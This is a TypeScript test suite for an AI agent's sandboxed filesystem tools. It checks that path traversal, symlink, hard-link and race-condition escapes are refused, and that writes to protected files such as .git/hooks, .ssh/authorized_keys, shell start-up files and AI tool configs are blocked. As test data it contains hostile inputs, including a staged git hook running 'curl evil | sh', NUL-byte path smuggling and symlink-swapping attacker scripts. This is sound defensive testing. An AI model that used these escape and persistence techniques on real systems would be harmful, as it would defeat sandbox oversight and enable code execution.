// Attempts to escape the workspace through the filesystem capabilities, or to plant files that run
// code later (mandatory deny). Every attempt must be refused with a structured CapabilityError
// (PathOutOfScope or MandatoryDeny unless stated) AND leave the outside untouched and unread: the
// outside directory is snapshotted before each test and compared after it, and no result may
// contain the outside secret.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import {
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import { after, afterEach, before, beforeEach, test } from "node:test";
import { createFilesystemHandlers } from "../../src/capabilities/filesystem/index.js";

const SECRET = "TOP-SECRET-OUTSIDE-0xC0FFEE";
const h = createFilesystemHandlers({ maxReadBytes: 4096, maxWriteBytes: 4096 });

let base: string;
let ws: string;
let outside: string;
let outsideBefore: Map<string, string>;

function snapshot(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  const visit = (d: string, rel: string): void => {
    for (const name of readdirSync(d)) {
      const p = path.join(d, name);
      const st = lstatSync(p);
      const r = rel ? `${rel}/${name}` : name;
      if (st.isDirectory()) {
        out.set(r, "dir");
        visit(p, r);
      } else out.set(r, st.isSymbolicLink() ? "link" : readFileSync(p, "utf8"));
    }
  };
  visit(dir, "");
  return out;
}

before(() => {
  base = mkdtempSync(path.join(os.tmpdir(), "krux-fs-escape-"));
});
after(() => rmSync(base, { recursive: true, force: true }));

let n = 0;
beforeEach(() => {
  const run = path.join(base, `run${n++}`);
  ws = path.join(run, "ws");
  outside = path.join(run, "outside");
  mkdirSync(ws, { recursive: true });
  mkdirSync(path.join(outside, "dir"), { recursive: true });
  writeFileSync(path.join(outside, "secret.txt"), SECRET);
  writeFileSync(path.join(outside, "dir", "secret.txt"), SECRET);
  writeFileSync(path.join(ws, "harmless.txt"), "harmless");
  outsideBefore = snapshot(outside);
});
afterEach(() => {
  assert.deepEqual(snapshot(outside), outsideBefore, "the outside directory must be unchanged");
});

async function call(
  name: string,
  inputs: Record<string, unknown>,
  allowed: (p: string) => boolean = () => false,
): Promise<Record<string, unknown>> {
  const handler = h[name];
  assert.ok(handler, name);
  const out = (await handler(inputs, {
    agent: "mallory",
    session: "s",
    workspaceRoot: ws,
    signal: new AbortController().signal,
    callId: "call-1",
    capability: "test",
    egress: false,
    mandatoryDenyAllowed: allowed,
  })) as Record<string, unknown>;
  assert.ok(!JSON.stringify(out).includes(SECRET), "a result carried the outside secret");
  return out;
}

async function refused(name: string, inputs: Record<string, unknown>, type: string): Promise<void> {
  let data: Record<string, unknown> | undefined;
  try {
    await call(name, inputs);
  } catch (err) {
    const e = err as { code?: string; data?: Record<string, unknown>; message?: string };
    assert.equal(e.code, "CapabilityError", `${name} failed with ${String(err)}`);
    data = e.data;
    assert.ok(!JSON.stringify(e.data).includes(SECRET) && !String(e.message).includes(SECRET));
  }
  assert.ok(data, `${name} ${JSON.stringify(inputs)} was not refused`);
  assert.equal(data.type, type, JSON.stringify(data));
  assert.equal(data.capability, name);
  assert.ok(Array.isArray(data.recovery) && data.recovery.length > 0);
}

const out = (...p: string[]): string => path.join(outside, ...p);
const inWs = (...p: string[]): string => path.join(ws, ...p);

// ---------------------------------------------------------------- lexical escapes

test("plain .. traversal out of the workspace is refused", async () => {
  await refused("filesystem.read", { path: "../outside/secret.txt" }, "PathOutOfScope");
  await refused("filesystem.write", { path: "../outside/new.txt", content: "x" }, "PathOutOfScope");
  await refused("filesystem.list", { path: ".." }, "PathOutOfScope");
});

test("nested .. traversal that climbs back out is refused", async () => {
  mkdirSync(inWs("a/b"), { recursive: true });
  await refused("filesystem.read", { path: "a/b/../../../outside/secret.txt" }, "PathOutOfScope");
  await refused("filesystem.stat", { path: "a/./b/../../.." }, "PathOutOfScope");
  await refused("filesystem.delete", { path: "a/../../outside/secret.txt" }, "PathOutOfScope");
});

test("encoded-looking traversal (%2e%2e, backslashes) is a literal name inside the workspace", async () => {
  // Nothing decodes these: they are ordinary file names, so they simply do not exist here.
  for (const p of [
    "%2e%2e/outside/secret.txt",
    "..%2f..%2foutside%2fsecret.txt",
    "..\\..\\outside\\secret.txt",
    "....//outside/secret.txt",
  ]) {
    let type: unknown;
    try {
      await call("filesystem.read", { path: p });
    } catch (err) {
      type = (err as { data?: { type?: unknown } }).data?.type;
    }
    assert.equal(type, "NotFound", p);
  }
  const w = await call("filesystem.write", { path: "..\\evil", content: "x" });
  assert.equal(w.path, "..\\evil");
  assert.ok(existsSync(inWs("..\\evil")), "created inside the workspace, under that literal name");
});

test("absolute paths outside /workspace are refused, including the workspace's own host path", async () => {
  await refused("filesystem.read", { path: "/etc/passwd" }, "PathOutOfScope");
  await refused("filesystem.read", { path: out("secret.txt") }, "PathOutOfScope");
  await refused("filesystem.read", { path: inWs("harmless.txt") }, "PathOutOfScope");
  await refused(
    "filesystem.write",
    { path: "/tmp/krux-escape.txt", content: "x" },
    "PathOutOfScope",
  );
  assert.equal(existsSync("/tmp/krux-escape.txt"), false);
});

test("/workspace prefix tricks (/workspace-evil, /workspace/../etc, //workspace/..) are refused", async () => {
  await refused("filesystem.read", { path: "/workspace-evil/secret.txt" }, "PathOutOfScope");
  await refused("filesystem.read", { path: "/workspaces/x" }, "PathOutOfScope");
  await refused("filesystem.read", { path: "/workspace/../etc/passwd" }, "PathOutOfScope");
  await refused("filesystem.read", { path: "/workspace/../../etc/passwd" }, "PathOutOfScope");
  await refused("filesystem.read", { path: "//workspace/../etc/passwd" }, "PathOutOfScope");
  // And the legitimate forms still work.
  assert.equal(
    (await call("filesystem.read", { path: "/workspace/harmless.txt" })).content,
    "harmless",
  );
  assert.equal(
    (await call("filesystem.read", { path: "/workspace//./harmless.txt" })).content,
    "harmless",
  );
});

test("a NUL byte in a path is refused", async () => {
  await refused(
    "filesystem.read",
    { path: "harmless.txt\0../../outside/secret.txt" },
    "PathOutOfScope",
  );
  await refused("filesystem.write", { path: "x\0y", content: "x" }, "PathOutOfScope");
});

// ---------------------------------------------------------------- symlinks

test("a symlink to an outside file (final component) cannot be read, stat'ed through or copied", async () => {
  symlinkSync(out("secret.txt"), inWs("link.txt"));
  await refused("filesystem.read", { path: "link.txt" }, "PathOutOfScope");
  await refused("filesystem.copy", { from: "link.txt", to: "copy.txt" }, "PathOutOfScope");
  await refused("filesystem.search", { pattern: "TOP", path: "link.txt" }, "PathOutOfScope");
  assert.equal(existsSync(inWs("copy.txt")), false);
  // stat describes the link itself, never the outside file.
  assert.equal((await call("filesystem.stat", { path: "link.txt" })).type, "symlink");
});

test("a symlink to an outside directory in the middle of a path is refused for every capability", async () => {
  symlinkSync(outside, inWs("outdir"));
  await refused("filesystem.read", { path: "outdir/secret.txt" }, "PathOutOfScope");
  await refused("filesystem.list", { path: "outdir" }, "PathOutOfScope");
  await refused("filesystem.stat", { path: "outdir/secret.txt" }, "PathOutOfScope");
  await refused(
    "filesystem.write",
    { path: "outdir/secret.txt", content: "pwned" },
    "PathOutOfScope",
  );
  await refused(
    "filesystem.write",
    { path: "outdir/new/x.txt", content: "pwned", create_dirs: true },
    "PathOutOfScope",
  );
  await refused("filesystem.mkdir", { path: "outdir/made", parents: true }, "PathOutOfScope");
  await refused("filesystem.delete", { path: "outdir/secret.txt" }, "PathOutOfScope");
  await refused("filesystem.delete", { path: "outdir/dir", recursive: true }, "PathOutOfScope");
  await refused("filesystem.watch", { path: "outdir", timeout_s: 0.2 }, "PathOutOfScope");
  await refused("filesystem.search", { pattern: "TOP", path: "outdir" }, "PathOutOfScope");
});

test("a relative symlink that climbs out (../../outside) and a chain inside→inside→outside are refused", async () => {
  mkdirSync(inWs("sub"));
  symlinkSync("../../outside", inWs("sub/up"));
  symlinkSync("sub/up", inWs("hop1"));
  symlinkSync("hop1", inWs("hop2"));
  await refused("filesystem.read", { path: "sub/up/secret.txt" }, "PathOutOfScope");
  await refused("filesystem.read", { path: "hop2/secret.txt" }, "PathOutOfScope");
  await refused("filesystem.list", { path: "hop2/dir" }, "PathOutOfScope");
});

test("a symlink whose absolute target is /workspace/.. or the host path of the parent is refused", async () => {
  symlinkSync(path.dirname(ws), inWs("parent"));
  symlinkSync(`${ws}/../outside`, inWs("dotdot"));
  await refused("filesystem.read", { path: "parent/outside/secret.txt" }, "PathOutOfScope");
  await refused("filesystem.read", { path: "dotdot/secret.txt" }, "PathOutOfScope");
});

test("a symlink loop is refused, not followed for ever", async () => {
  symlinkSync("loop-b", inWs("loop-a"));
  symlinkSync("loop-a", inWs("loop-b"));
  await refused("filesystem.read", { path: "loop-a/x" }, "PathOutOfScope");
  await refused("filesystem.read", { path: "loop-a" }, "PathOutOfScope");
});

test("recursive list, search and copy never descend into a symlink that leads outside", async () => {
  mkdirSync(inWs("proj"));
  symlinkSync(outside, inWs("proj/escape"));
  const l = await call("filesystem.list", { recursive: true, include_hidden: true });
  const paths = (l.entries as { path: string; type: string }[]).map((e) => e.path);
  assert.ok(paths.includes("proj/escape"));
  assert.ok(!paths.some((p) => p.startsWith("proj/escape/")), paths.join(","));
  const s = await call("filesystem.search", { pattern: "TOP-SECRET", include_hidden: true });
  assert.deepEqual(s.matches, []);
  const c = await call("filesystem.copy", { from: "proj", to: "proj2" });
  assert.equal(c.skipped, 1);
  assert.equal(existsSync(inWs("proj2/escape")), false);
});

test("writing through a symlink to an outside file is refused and the file is unchanged", async () => {
  symlinkSync(out("secret.txt"), inWs("config.json"));
  await refused("filesystem.write", { path: "config.json", content: "pwned" }, "PathOutOfScope");
  assert.ok(lstatSync(inWs("config.json")).isSymbolicLink(), "the link itself is left alone");
});

test("writing through a dangling symlink that points outside creates nothing outside", async () => {
  symlinkSync(out("created-by-agent.txt"), inWs("dangling"));
  symlinkSync("../outside/created-rel.txt", inWs("dangling-rel"));
  await refused("filesystem.write", { path: "dangling", content: "pwned" }, "PathOutOfScope");
  await refused("filesystem.write", { path: "dangling-rel", content: "pwned" }, "PathOutOfScope");
  await refused(
    "filesystem.copy",
    { from: "harmless.txt", to: "dangling", overwrite: true },
    "PathOutOfScope",
  );
  assert.equal(existsSync(out("created-by-agent.txt")), false);
  assert.equal(existsSync(out("created-rel.txt")), false);
});

test("copy or move onto a symlink that points outside is refused", async () => {
  symlinkSync(out("secret.txt"), inWs("target"));
  await refused(
    "filesystem.copy",
    { from: "harmless.txt", to: "target", overwrite: true },
    "PathOutOfScope",
  );
  await refused(
    "filesystem.move",
    { from: "harmless.txt", to: "target", overwrite: true },
    "PathOutOfScope",
  );
  await refused("filesystem.copy", { from: "harmless.txt", to: "target" }, "AlreadyExists");
  assert.equal(readFileSync(inWs("harmless.txt"), "utf8"), "harmless");
});

test("deleting a symlink to an outside directory removes only the link", async () => {
  symlinkSync(outside, inWs("outdir"));
  const r = await call("filesystem.delete", { path: "outdir", recursive: true });
  assert.equal(r.type, "symlink");
  assert.equal(existsSync(inWs("outdir")), false);
  // afterEach proves the outside tree is intact.
});

// ---------------------------------------------------------------- moving across the boundary

test("rename out of the workspace is refused and the source stays", async () => {
  await refused(
    "filesystem.move",
    { from: "harmless.txt", to: "../outside/stolen.txt" },
    "PathOutOfScope",
  );
  await refused(
    "filesystem.move",
    { from: "harmless.txt", to: out("stolen.txt") },
    "PathOutOfScope",
  );
  symlinkSync(outside, inWs("outdir"));
  await refused(
    "filesystem.move",
    { from: "harmless.txt", to: "outdir/stolen.txt" },
    "PathOutOfScope",
  );
  await refused(
    "filesystem.copy",
    { from: "harmless.txt", to: "outdir/stolen.txt" },
    "PathOutOfScope",
  );
  assert.equal(readFileSync(inWs("harmless.txt"), "utf8"), "harmless");
});

test("rename into the workspace from outside is refused", async () => {
  await refused("filesystem.move", { from: out("secret.txt"), to: "got.txt" }, "PathOutOfScope");
  await refused(
    "filesystem.move",
    { from: "../outside/secret.txt", to: "got.txt" },
    "PathOutOfScope",
  );
  await refused("filesystem.copy", { from: "../outside/dir", to: "got" }, "PathOutOfScope");
  symlinkSync(outside, inWs("outdir"));
  await refused("filesystem.move", { from: "outdir/secret.txt", to: "got.txt" }, "PathOutOfScope");
  assert.equal(existsSync(inWs("got.txt")), false);
});

// ---------------------------------------------------------------- hard links

test("a hard link to an outside file cannot be read, copied or searched, and writing it replaces only the link", async (t) => {
  try {
    linkSync(out("secret.txt"), inWs("hard.txt"));
  } catch (err) {
    t.skip(`cannot create a hard link here: ${(err as Error).message}`);
    return;
  }
  // (This workspace is a directory inside /tmp, not a filesystem of its own, so nlink > 1 is refused.)
  await refused("filesystem.read", { path: "hard.txt" }, "PathOutOfScope");
  await refused("filesystem.copy", { from: "hard.txt", to: "c.txt" }, "PathOutOfScope");
  mkdirSync(inWs("d"));
  linkSync(out("dir", "secret.txt"), inWs("d", "h2.txt"));
  await refused("filesystem.copy", { from: "d", to: "d2" }, "PathOutOfScope");
  assert.equal(existsSync(inWs("d2")), false);
  const s = await call("filesystem.search", { pattern: "TOP-SECRET" });
  assert.deepEqual(s.matches, []);
  await call("filesystem.write", { path: "hard.txt", content: "mine now" });
  assert.equal(readFileSync(inWs("hard.txt"), "utf8"), "mine now");
  assert.equal(readFileSync(out("secret.txt"), "utf8"), SECRET);
});

// ---------------------------------------------------------------- races

/** Run `script` in another process until killed: a real concurrent attacker. */
function attacker(script: string): { stop: () => Promise<void> } {
  const child = spawn(process.execPath, ["-e", script], { stdio: "ignore" });
  return {
    stop: () =>
      new Promise((resolve) => {
        child.once("exit", () => resolve());
        child.kill("SIGKILL");
      }),
  };
}

test("a directory swapped for an outside symlink while reads and writes run never leaks or modifies the outside", async (t) => {
  // What this proves: with another process flipping race/dir between a real directory and a
  // symlink to the outside as fast as it can, hundreds of reads and writes through race/dir either
  // act on the inside file or are refused; none returns or changes the outside file. It exercises
  // the check/use windows statistically; it cannot prove that no window exists.
  mkdirSync(inWs("race/dir"), { recursive: true });
  writeFileSync(inWs("race/dir/secret.txt"), "inside");
  const swapper = attacker(`
    const fs = require("fs");
    const d = ${JSON.stringify(inWs("race"))};
    for (;;) {
      try { fs.renameSync(d + "/dir", d + "/parked"); } catch {}
      try { fs.symlinkSync(${JSON.stringify(outside)}, d + "/dir"); } catch {}
      try { fs.unlinkSync(d + "/dir"); } catch {}
      try { fs.renameSync(d + "/parked", d + "/dir"); } catch {}
    }`);
  const outcomes = { read: 0, written: 0, refused: 0 };
  const attempt = async (name: string, inputs: Record<string, unknown>): Promise<void> => {
    try {
      const r = await call(name, inputs);
      if (name === "filesystem.read") assert.equal(r.content, "inside");
      outcomes[name === "filesystem.read" ? "read" : "written"] += 1;
    } catch (err) {
      const type = (err as { data?: { type?: string } }).data?.type;
      assert.ok(["PathOutOfScope", "NotFound", "NotADirectory"].includes(type ?? ""), String(err));
      outcomes.refused += 1;
    }
  };
  try {
    for (let i = 0; i < 300; i++) {
      await attempt("filesystem.read", { path: "race/dir/secret.txt" });
      await attempt("filesystem.write", { path: "race/dir/secret.txt", content: "inside" });
    }
  } finally {
    await swapper.stop();
  }
  assert.equal(outcomes.read + outcomes.written + outcomes.refused, 600);
  t.diagnostic(`outcomes under the race: ${JSON.stringify(outcomes)}`);
  assert.equal(readFileSync(out("secret.txt"), "utf8"), SECRET);
});

test("a file swapped for an outside symlink between check and open is never read or written through", async () => {
  writeFileSync(inWs("flip.txt"), "inside");
  const swapper = attacker(`
    const fs = require("fs");
    const f = ${JSON.stringify(inWs("flip.txt"))};
    for (;;) {
      try { fs.unlinkSync(f); } catch {}
      try { fs.symlinkSync(${JSON.stringify(out("secret.txt"))}, f); } catch {}
      try { fs.unlinkSync(f); } catch {}
      try { fs.writeFileSync(f, "inside"); } catch {}
    }`);
  try {
    for (let i = 0; i < 300; i++) {
      try {
        const r = await call("filesystem.read", { path: "flip.txt" });
        assert.ok(r.content === "inside" || r.content === "", String(r.content));
      } catch (err) {
        const type = (err as { data?: { type?: string } }).data?.type;
        assert.ok(["PathOutOfScope", "NotFound"].includes(type ?? ""), String(err));
      }
      try {
        await call("filesystem.write", { path: "flip.txt", content: "inside" });
      } catch (err) {
        // IsASymlink: the name was a symlink when checked and a file again by the time its target
        // was resolved — still a refusal, never a write through the link.
        const type = (err as { data?: { type?: string } }).data?.type;
        assert.ok(["PathOutOfScope", "NotFound", "IsASymlink"].includes(type ?? ""), String(err));
      }
    }
  } finally {
    await swapper.stop();
  }
  assert.equal(readFileSync(out("secret.txt"), "utf8"), SECRET);
});

test("a path that becomes an outside symlink between two calls is refused on the second", async () => {
  mkdirSync(inWs("later"));
  writeFileSync(inWs("later/f.txt"), "inside");
  assert.equal((await call("filesystem.read", { path: "later/f.txt" })).content, "inside");
  rmSync(inWs("later"), { recursive: true });
  symlinkSync(outside, inWs("later"));
  await refused("filesystem.read", { path: "later/secret.txt" }, "PathOutOfScope");
});

// ---------------------------------------------------------------- mandatory deny

test("an existing .git/config cannot be written, deleted or moved away", async () => {
  mkdirSync(inWs(".git"));
  writeFileSync(inWs(".git/config"), "[core]\n");
  await refused(
    "filesystem.write",
    { path: ".git/config", content: "[core]\n\thooksPath = /tmp\n" },
    "MandatoryDeny",
  );
  await refused("filesystem.delete", { path: ".git/config" }, "MandatoryDeny");
  await refused("filesystem.move", { from: ".git/config", to: "cfg" }, "MandatoryDeny");
  await refused(
    "filesystem.copy",
    { from: "harmless.txt", to: ".git/config", overwrite: true },
    "MandatoryDeny",
  );
  assert.equal(readFileSync(inWs(".git/config"), "utf8"), "[core]\n");
});

test("a not-yet-existing .git/hooks/pre-commit cannot be created, not even its directory", async () => {
  await refused(
    "filesystem.write",
    { path: ".git/hooks/pre-commit", content: "#!/bin/sh\n", create_dirs: true },
    "MandatoryDeny",
  );
  assert.equal(existsSync(inWs(".git/hooks")), false);
  await refused("filesystem.mkdir", { path: ".git/hooks", parents: true }, "MandatoryDeny");
  assert.equal(existsSync(inWs(".git/hooks")), false);
});

test("nested repositories and submodules are protected at any depth", async () => {
  await refused(
    "filesystem.write",
    { path: "vendor/lib/.git/hooks/post-checkout", content: "x", create_dirs: true },
    "MandatoryDeny",
  );
  await refused(
    "filesystem.write",
    { path: ".git/modules/sub/hooks/pre-push", content: "x", create_dirs: true },
    "MandatoryDeny",
  );
  await refused(
    "filesystem.write",
    { path: ".git/modules/sub/config", content: "x", create_dirs: true },
    "MandatoryDeny",
  );
  await refused(
    "filesystem.write",
    { path: "deep/a/b/.bashrc", content: "x", create_dirs: true },
    "MandatoryDeny",
  );
  await refused(
    "filesystem.write",
    { path: ".git/info/attributes", content: "* filter=x", create_dirs: true },
    "MandatoryDeny",
  );
  assert.equal(existsSync(inWs("vendor")), false);
});

test("case, Unicode and trailing-dot variants (.GIT/config, .Ssh, .g\\u200cit) are protected too", async () => {
  for (const p of [
    ".GIT/config",
    ".Git/Hooks/pre-commit",
    ".SSH/authorized_keys",
    ".BashRC",
    ".git./config",
    ".g\u200cit/hooks/x",
    ".MCP.json",
    ".VSCode/tasks.json",
  ])
    await refused(
      "filesystem.write",
      { path: p, content: "x", create_dirs: true },
      "MandatoryDeny",
    );
  assert.deepEqual(readdirSync(ws), ["harmless.txt"]);
});

test(".ssh/authorized_keys, shell start-up files and tool configs cannot be written", async () => {
  for (const p of [
    ".ssh/authorized_keys",
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".mcp.json",
    ".vscode/settings.json",
    ".idea/workspace.xml",
    ".npmrc",
    ".gitconfig",
    ".envrc",
    ".cursor/mcp.json",
    ".claude/settings.json",
  ])
    await refused(
      "filesystem.write",
      { path: p, content: "x", create_dirs: true },
      "MandatoryDeny",
    );
  assert.deepEqual(readdirSync(ws), ["harmless.txt"]);
});

test("moving or copying a harmless file onto .bashrc is refused and both stay as they were", async () => {
  await refused("filesystem.move", { from: "harmless.txt", to: ".bashrc" }, "MandatoryDeny");
  await refused("filesystem.copy", { from: "harmless.txt", to: ".bashrc" }, "MandatoryDeny");
  await refused("filesystem.copy", { from: "harmless.txt", to: "sub/.mcp.json" }, "MandatoryDeny");
  assert.equal(existsSync(inWs(".bashrc")), false);
  assert.equal(readFileSync(inWs("harmless.txt"), "utf8"), "harmless");
});

test("mkdir .ssh (and a nested .vscode) is refused", async () => {
  await refused("filesystem.mkdir", { path: ".ssh" }, "MandatoryDeny");
  await refused("filesystem.mkdir", { path: "proj/.vscode", parents: true }, "MandatoryDeny");
  assert.equal(existsSync(inWs(".ssh")), false);
  assert.equal(existsSync(inWs("proj/.vscode")), false);
});

test("a directory rename that would create .git/hooks/x is refused", async () => {
  mkdirSync(inWs("staging/hooks"), { recursive: true });
  writeFileSync(inWs("staging/hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
  await refused("filesystem.move", { from: "staging", to: ".git" }, "MandatoryDeny");
  mkdirSync(inWs(".git"));
  await refused("filesystem.move", { from: "staging/hooks", to: ".git/hooks" }, "MandatoryDeny");
  mkdirSync(inWs("sub"));
  await refused("filesystem.copy", { from: "staging", to: "sub/.git" }, "MandatoryDeny");
  assert.equal(existsSync(inWs(".git/hooks")), false);
  assert.equal(existsSync(inWs("sub/.git")), false);
  assert.ok(existsSync(inWs("staging/hooks/pre-commit")));
});

test("a directory holding protected files cannot be moved away or deleted recursively; nothing is removed", async () => {
  mkdirSync(inWs("repo/.git/hooks"), { recursive: true });
  writeFileSync(inWs("repo/.git/hooks/pre-commit"), "ok");
  writeFileSync(inWs("repo/file.txt"), "data");
  await refused("filesystem.delete", { path: "repo", recursive: true }, "MandatoryDeny");
  await refused("filesystem.move", { from: "repo", to: "elsewhere" }, "MandatoryDeny");
  assert.ok(existsSync(inWs("repo/file.txt")));
  assert.ok(existsSync(inWs("repo/.git/hooks/pre-commit")));
});

test("a symlink to .git cannot be used to write .git/hooks through another name", async () => {
  mkdirSync(inWs(".git"));
  symlinkSync(".git", inWs("innocent"));
  await refused(
    "filesystem.write",
    { path: "innocent/hooks/pre-commit", content: "x", create_dirs: true },
    "MandatoryDeny",
  );
  await refused("filesystem.write", { path: "innocent/config", content: "x" }, "MandatoryDeny");
  assert.equal(existsSync(inWs(".git/hooks")), false);
  assert.equal(existsSync(inWs(".git/config")), false);
});

test("policy can name a mandatory-deny path, and only that path is let through", async () => {
  const allowed = (p: string): boolean => p === ".vscode" || p === ".vscode/settings.json";
  await h["filesystem.write"]?.(
    { path: ".vscode/settings.json", content: "{}", create_dirs: true },
    {
      agent: "a",
      session: "s",
      workspaceRoot: ws,
      signal: new AbortController().signal,
      callId: "call-1",
      capability: "test",
      egress: false,
      mandatoryDenyAllowed: allowed,
    },
  );
  assert.equal(readFileSync(inWs(".vscode/settings.json"), "utf8"), "{}");
  await refused("filesystem.write", { path: ".vscode/tasks.json", content: "{}" }, "MandatoryDeny");
});

test(".env is ordinary project data and stays writable (a documented decision)", async () => {
  await call("filesystem.write", { path: ".env", content: "PORT=3000\n" });
  assert.equal(readFileSync(inWs(".env"), "utf8"), "PORT=3000\n");
});

// ---------------------------------------------------------------- bounds

test("a huge read is refused with TooLarge and a huge write writes nothing", async () => {
  writeFileSync(inWs("huge.bin"), Buffer.alloc(4097));
  await refused("filesystem.read", { path: "huge.bin" }, "TooLarge");
  await refused("filesystem.write", { path: "huge.txt", content: "x".repeat(4097) }, "TooLarge");
  await refused("filesystem.copy", { from: "huge.bin", to: "huge2.bin" }, "TooLarge");
  assert.equal(existsSync(inWs("huge.txt")), false);
  assert.equal(existsSync(inWs("huge2.bin")), false);
});

test("a FIFO is refused without hanging the read", async (t) => {
  const r = await new Promise<number | null>((resolve) => {
    const c = spawn("mkfifo", [inWs("pipe")]);
    c.on("error", () => resolve(null));
    c.on("exit", (code) => resolve(code));
  });
  if (r !== 0) {
    t.skip("mkfifo is not available here");
    return;
  }
  await refused("filesystem.read", { path: "pipe" }, "NotAFile");
});
